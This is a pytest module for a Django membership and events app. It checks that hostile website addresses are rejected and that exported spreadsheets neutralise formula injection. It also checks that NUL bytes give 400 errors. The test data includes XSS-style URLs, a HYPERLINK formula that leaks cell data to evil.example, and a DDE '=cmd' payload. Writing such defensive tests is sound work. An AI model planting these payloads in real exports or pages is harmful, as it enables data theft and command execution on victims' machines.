"""Hostile input: what users type is never turned into a script or a formula for others."""

import html
import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from alliance.base.spreadsheets import safe_text
from alliance.figures.tables import for_csv
from chambers.models import StaffRole
from events import services
from members import imports
from members.forms import CompanyProfileForm
from members.models import Company
from tests.factories import (
    ChamberFactory,
    CompanyFactory,
    PartnerFactory,
    PersonFactory,
    staff_user,
)
from tests.helpers import client_for, rejected_by_database
from tests.staff.test_exports import export, parse_csv
from tests.staff.test_imports import HEADER, csv_file, new_member_form, row, upload

pytestmark = pytest.mark.django_db

Role = StaffRole.Role
HOSTILE_ADDRESSES = [
    "javascript:alert(document.cookie)",
    "JavaScript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "ftp://files.example.org/",
    "vbscript:msgbox(1)",
]
WORDS = "Geef een webadres dat begint met http:// of https://."


@pytest.fixture
def importer(mechelen):
    return client_for(staff_user(Role.CHAMBER_ADMIN, mechelen))


@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_an_imported_website_must_be_http(importer, address):
    rows = [row(31, website=address)]
    _, page = upload(importer, csv_file(rows, header=[*HEADER, "website"]))
    [error] = page.context["job"]["errors"]
    assert (error["column"], error["message"]) == ("website", WORDS)
    assert not Company.objects.exists()


def test_an_imported_http_website_is_kept(importer):
    job_id, _ = upload(
        importer, csv_file([row(32, website="https://www.anker.example/")], [*HEADER, "website"])
    )
    importer.post(reverse("staff:import_write", args=[job_id]))
    assert Company.objects.get().website == "https://www.anker.example/"


@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_the_forms_refuse_a_website_that_is_not_http(importer, mechelen, address):
    page = importer.post(
        reverse("staff:member_new"), new_member_form(mechelen, 33, website=address)
    )
    assert page.status_code == 200
    assert WORDS in html.unescape(page.content.decode())
    assert not Company.objects.exists()
    profile = CompanyProfileForm(
        data={
            "postcode": "2800",
            "municipality": "Mechelen",
            "legal_form": "bv",
            "size_class": "small",
            "website": address,
        },
        instance=CompanyFactory(),
    )
    assert profile.errors["website"] == [WORDS]


def test_the_models_refuse_it_in_full_clean(db):
    for instance in (
        CompanyFactory.build(website="javascript:alert(1)"),
        ChamberFactory.build(website="javascript:alert(1)"),
        PartnerFactory.build(website="javascript:alert(1)"),
    ):
        with pytest.raises(ValidationError) as caught:
            instance.full_clean(exclude=["slug", "enterprise_number"])
        assert caught.value.message_dict["website"] == [WORDS]


@pytest.mark.parametrize(
    ("factory", "constraint"),
    [
        (CompanyFactory, "company_website_http"),
        (ChamberFactory, "chamber_website_http"),
        (PartnerFactory, "partner_website_http"),
    ],
)
def test_the_database_refuses_it_whatever_the_way_in(factory, constraint):
    with rejected_by_database(constraint):
        factory(website="javascript:alert(1)")


# --- formulas in exports ------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"klik")',
    "+32 15 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


@pytest.mark.parametrize("text", [*FORMULAS, "\r=1+1"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert safe_text(text) == "'" + text
    assert safe_text("Els") == "Els" and safe_text(12) == 12


@pytest.fixture
def formula_attendees(event, company):
    for n, name in enumerate(FORMULAS):
        person = PersonFactory(
            company=company, first_name=name, last_name=f"Naam{n}", email=f"f{n}@anker.example"
        )
        services.registration_create(event=event, person=person)


def test_a_csv_export_neutralises_formulas(event_manager, event, formula_attendees):
    response = export(client_for(event_manager, reauthenticated=True), event, "csv")
    first_names = [row[0] for row in parse_csv(response.content)[1:]]
    assert sorted(first_names) == sorted("'" + name for name in FORMULAS)


def test_an_xlsx_export_writes_them_as_text_never_as_formulas(
    event_manager, event, formula_attendees
):
    response = export(client_for(event_manager, reauthenticated=True), event, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sorted(cell.value for cell in cells) == sorted("'" + name for name in FORMULAS)


def test_the_import_errors_csv_neutralises_what_the_file_said(importer):
    job = {"errors": [{"line": 2, "column": "naam", "message": "=1+1"}]}
    assert imports.errors_csv(job).splitlines()[1] == "2,naam,'=1+1"


def test_a_figures_csv_neutralises_a_chamber_named_like_a_formula(db):
    assert for_csv("=cmd|' /C calc'!A0", "text") == "'=cmd|' /C calc'!A0"
    assert for_csv(-3, "number") == -3, "numbers stay numbers"


# --- NUL bytes and broken UTF-8 ------------------------------------------------------------------

NUL_ADDRESSES = [
    "/?q=%00",
    "/events/?q=%00",
    "/search/?q=%00",
    "/search/?q=a%00b",
    "/directory/?q=%00",
    "/events/%00/",
    "/chambers/%00/",
    "/api/v1/events/?search=%00",
    "/api/v1/events/%00/",
    "/events/?city=%00&kind=%00",
]


@pytest.mark.parametrize("url", NUL_ADDRESSES)
def test_a_nul_byte_in_the_address_is_a_400_never_a_500(db, url):
    response = client_for(None).get(url)
    assert response.status_code == 400
    if url.startswith("/api/"):
        assert response["Content-Type"] == "application/problem+json"
        assert response.json()["code"] == "invalid_input"


@pytest.mark.parametrize("url", ["/search/?q=%FF%FE", "/events/?q=%C0%AF", "/events/%FF/"])
def test_broken_utf8_is_no_500(db, url):
    assert client_for(None).get(url).status_code in (200, 400, 404)


def test_a_nul_byte_in_a_staff_query_or_form_is_a_400(kempen, event):
    staff = client_for(staff_user(Role.CHAMBER_ADMIN, kempen))
    assert staff.get("/staff/members/?q=%00").status_code == 400
    assert staff.get(f"/staff/events/{event.slug}/?status=%00").status_code == 400
    title = event.title
    assert staff.post(f"/staff/events/{event.slug}/edit/", {"title": "a\x00b"}).status_code == 400
    event.refresh_from_db()
    assert event.title == title


def test_a_nul_byte_in_a_log_in_or_sign_up_is_a_400(db):
    client = client_for(None)
    login = client.post(reverse("account_login"), {"login": "a\x00@b.be", "password": "x"})
    signup = client.post(
        reverse("account_signup"),
        {"email": "a\x00@b.be", "password1": "lang-wachtwoord-1", "password2": "lang-wachtwoord-1"},
    )
    assert (login.status_code, signup.status_code) == (400, 400)
